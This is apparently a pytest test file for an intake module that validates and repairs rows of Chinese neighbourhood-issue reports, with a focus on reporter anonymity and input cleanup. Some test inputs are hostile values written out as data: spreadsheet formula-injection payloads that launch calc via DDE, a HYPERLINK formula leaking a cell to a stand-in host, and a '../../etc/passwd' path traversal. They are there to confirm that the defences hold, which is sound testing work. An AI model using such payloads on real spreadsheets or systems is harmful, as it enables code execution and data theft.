"""One bad cell at a time: what is rejected, what is kept with a remark, and what the report then says."""

from __future__ import annotations

import pytest

from cases.intake import Report
from tests.cases.intake.stand_in import CLEAN, a_row, read_rows

REJECTED = [
    ({"community": ""}, "community", "是否为“锦澜花苑”？"),
    ({"community": "", "reporter_org": "柳岸物业（托管）"}, "community", "请填写小区名称。"),
    ({"community": "月亮湾"}, "community", "不认识小区“月亮湾”"),
    ({"community": '=HYPERLINK("http://example.invalid/?q="&A2,"枣园新苑")'}, "community", "是否为“枣园新苑”？"),
    ({"community": "@锦澜花苑"}, "community", "公式"),
    ({"matter_code": "XF99"}, "matter_code", "XF01 至 XF02"),
    ({"matter_code": "CG12"}, "matter_code", "CG01 至 CG11"),
    ({"matter_code": "飞线"}, "matter_code", "是否为 XF01 飞线充电？"),
    ({"matter_code": "充电"}, "matter_code", "是否为 XF01 飞线充电 或 XF02 违规停放充电？"),
    ({"matter_code": "QQ"}, "matter_code", "或者留空。"),
    ({"found_at": ""}, "found_at", "没有填写发现时间"),
    ({"found_at": "前天"}, "found_at", "无法识别发现时间“前天”"),
    ({"found_at": "2026-02-30T10:00:00"}, "found_at", "无法识别"),
    ({"found_at": "2026-10-01T25:00:00"}, "found_at", "无法识别"),
    ({"found_at": "2062-10-11T08:00:00"}, "found_at", "是否为 2026-10-11 08:00？"),
    ({"found_at": "2026-11-21T09:00:01"}, "found_at", "晚于导入时间"),
    ({"found_at": "2024-11-21T08:59:59"}, "found_at", "超过 2 年"),
    ({"external_id": ""}, "external_id", "没有编号"),
    ({"external_id": "\u200b \u202e"}, "external_id", "没有编号"),
    ({"source": "路人"}, "source", "不认识来源“路人”"),
    ({"source": ""}, "source", "grid_worker"),
    ({"description": "\ufeff \n", "matter_code": ""}, "description", "至少填写一项"),
    ({"description": "长" * 20_001}, "description", "20001"),
    ({"room": "9" * 401}, "room", "最多 400"),
]

KEPT = [
    ({"found_at": "2026/10/3 14:20"}, "found_at", "2026-10-03 14:20:00"),
    ({"community": "尧塘街道枣园新苑", "lng": "", "lat": ""}, "community", "枣园新苑"),
    ({"source": "物业"}, "source", "property"),
    ({"matter_code": "cg-01"}, "matter_code", "CG01 违法搭建"),
    ({"building": "７幢"}, "building", "7幢"),
    ({"room": "１８０１"}, "room", "1801"),
    ({"description": "门\u200b厅\u202e有人"}, "description", "U+200B、U+202E"),
    ({"description": "=cmd|' /C calc'!A0"}, "description", "不会作为公式执行"),
    ({"reporter_name": "@SUM(1+9)*cmd|'/C calc'!A0"}, "reporter_name", "不会作为公式执行"),
    ({"lng": "31.741587", "lat": "119.571334"}, "lng", "已对调为 119.571334，31.741587"),
    ({"lng": "0", "lat": "0"}, "lng", "不采用"),
    ({"lng": "116.40", "lat": "39.90"}, "lng", "不采用"),
    ({"lat": ""}, "lng", "只填了一个"),
    ({"lng": "nan"}, "lng", "不是数字"),
    ({"reporter_phone": "+86 138-0013-1390"}, "reporter_phone", "纯数字"),
    ({"reporter_phone": "问物业要"}, "reporter_phone", "无法识别"),
    ({"anonymous": "yes"}, "anonymous", "未予保存"),
    ({"anonymous": "看情况"}, "anonymous", "须保密"),
    ({"secrecy_wish": "?"}, "secrecy_wish", "须保密"),
    ({"source": "resident_snapshot"}, "reporter_org", "不应填写单位"),
    ({"reporter_org": ""}, "reporter_org", "没有填写报送单位"),
    ({"dissuaded_by": ""}, "dissuaded", "缺劝阻人"),
    ({"dissuaded_at": "上周", "dissuasion_words": "\u3000"}, "dissuaded", "缺时间、劝阻内容"),
    ({"dissuaded_at": "2026-11-21T09:30:00"}, "dissuaded_at", "晚于导入时间"),
    ({"dissuaded": "no"}, "dissuaded", "标为未劝阻"),
    ({"dissuaded": "劝过吧"}, "dissuaded", "应为 yes 或 no"),
    ({"dissuaded_at": "2026年10月1日 中午12点"}, "dissuaded_at", "2026-10-01 12:00:00"),
    ({"emergency": "非常急"}, "emergency", "按未填写处理"),
    ({"evidence": "../../etc/passwd;C:\\钢架.jpg"}, "evidence", "已去掉路径"),
]


@pytest.mark.parametrize(("changed", "field", "words"), REJECTED)
def test_a_row_the_office_cannot_work_with_is_rejected_with_its_reason(
    changed: dict[str, str], field: str, words: str
) -> None:
    reading = read_rows(a_row(**changed))
    assert reading.reports == []
    assert reading.rejected_rows == (2,)
    chief = reading.rejected[0]
    assert (chief.field, chief.outcome) == (field, "rejected")
    assert words in chief.reason
    assert reading.remarks == []


@pytest.mark.parametrize(("changed", "field", "words"), KEPT)
def test_a_row_that_can_be_repaired_is_kept_with_one_remark(changed: dict[str, str], field: str, words: str) -> None:
    reading = read_rows(a_row(**changed))
    assert reading.rejected == []
    (report,) = reading.reports
    assert [remark.field for remark in reading.remarks] == [field]
    assert reading.remarks[0].outcome == "kept"
    assert reading.remarks[0].external_id == CLEAN["external_id"]
    assert words in reading.remarks[0].reason
    assert report.remarks == tuple(reading.remarks)


def kept(**changed: str) -> Report:
    (report,) = read_rows(a_row(**changed)).reports
    return report


def test_a_clean_row_becomes_a_report_without_remarks() -> None:
    report = kept()
    assert report.remarks == ()
    assert report.row == 2
    assert (report.external_id, report.source, report.community) == ("WY-261001-001", "property", "JLHY")
    assert (report.building, report.room, report.lng, report.lat) == ("7幢1单元", "1801", 119.571334, 31.741587)
    assert report.found_at.isoformat() == "2026-10-01T10:12:00+08:00"
    assert (report.matter_code, report.emergency) == ("CG01", False)
    assert (report.anonymous, report.secrecy) == (False, False)
    assert (report.reporter_name, report.reporter_phone) == ("马小杰", "13800131390")
    assert report.evidence == ("钢架一.jpg", "停工通知.pdf")
    assert report.dissuasion is not None
    assert report.dissuasion.at is not None
    assert report.dissuasion.at.isoformat() == "2026-10-01T11:42:00+08:00"
    assert (report.dissuasion.by, report.dissuasion.response) == ("马小杰（物业）", "不听。")


def test_several_faults_are_all_named_the_chief_one_first() -> None:
    reading = read_rows(a_row(community="", found_at="x", matter_code="XF99"))
    assert [remark.field for remark in reading.rejected] == ["community", "found_at", "matter_code"]
    assert reading.rejected_rows == (2,)


def test_who_wants_to_be_anonymous_leaves_no_trace() -> None:
    reading = read_rows(a_row(anonymous="yes", secrecy_wish="yes"))
    report = reading.reports[0]
    assert report.anonymous
    assert report.secrecy
    assert "马小杰" not in (report.reporter_name, report.reporter_phone_given)
    assert (report.reporter_name, report.reporter_phone, report.reporter_phone_given) == ("", "", "")
    assert "13800131390" not in repr(reading)


@pytest.mark.parametrize("changed", [{"reporter_phone": "一三八零零"}, {"reporter_name": "=马小杰"}])
def test_no_remark_repeats_who_reported(changed: dict[str, str]) -> None:
    reading = read_rows(a_row(**changed), a_row(**changed))
    sentences = "".join(remark.reason for remark in [*reading.remarks, *reading.rejected])
    assert sentences
    assert not any(value in sentences for value in changed.values())


@pytest.mark.parametrize("wish", ["", "也许", "yes", "是"])
def test_an_unclear_wish_for_secrecy_is_taken_as_one(wish: str) -> None:
    assert kept(secrecy_wish=wish).secrecy


def test_unclear_anonymity_keeps_the_reporter_reachable_but_secret() -> None:
    report = kept(anonymous="", secrecy_wish="no")
    assert (report.anonymous, report.secrecy, report.reporter_name) == (False, True, "马小杰")


def test_the_phone_as_given_stays_beside_its_digits() -> None:
    report = kept(reporter_phone="+86 138 0013 1390")
    assert (report.reporter_phone, report.reporter_phone_given) == ("13800131390", "+86 138 0013 1390")
    unreadable = kept(reporter_phone="打我老婆电话")
    assert (unreadable.reporter_phone, unreadable.reporter_phone_given) == ("", "打我老婆电话")


@pytest.mark.parametrize(
    "changed",
    [{"dissuaded_by": ""}, {"dissuaded_at": ""}, {"dissuasion_words": " "}, {"dissuaded": ""}, {"dissuaded": "no"}],
)
def test_half_a_dissuasion_record_is_none(changed: dict[str, str]) -> None:
    assert kept(**changed).dissuasion is None


def test_a_dissuasion_without_answer_is_whole() -> None:
    dissuasion = kept(dissuasion_response="").dissuasion
    assert dissuasion is not None
    assert dissuasion.response == ""


def test_emergency_left_open_is_not_no() -> None:
    assert kept(emergency="").emergency is None
    assert kept(emergency="yes").emergency is True


def test_no_matter_is_allowed_when_something_is_said() -> None:
    report = kept(matter_code="")
    assert report.matter_code is None
    assert report.remarks == ()


@pytest.mark.parametrize("given", ["ga-04", "GA 4", "ＧＡ０４", "ga_004", "Ga04", "犬只扰民"])
def test_sloppy_matter_codes_are_understood(given: str) -> None:
    assert kept(matter_code=given).matter_code == "GA04"


def test_a_long_real_report_is_kept_whole() -> None:
    text = "记" * 20_000
    assert kept(description=text).description == text


def test_a_formula_stays_plain_text() -> None:
    assert kept(description="=1+1 楼道堆物").description == "=1+1 楼道堆物"


def test_line_breaks_stay_and_invisible_characters_go() -> None:
    assert kept(description="\ufeff一\r\n二\u2028三\u2029四\x07").description == "一\n二\n三\n四"


def test_the_place_of_a_community_without_coordinates_is_taken_from_the_row() -> None:
    report = kept(community="南浦小区", lng="31.7", lat="119.6")
    assert (report.lng, report.lat) == (119.6, 31.7)


def test_two_years_to_the_second_is_not_too_old() -> None:
    assert kept(found_at="2024-11-21T09:00:00").found_at.year == 2024
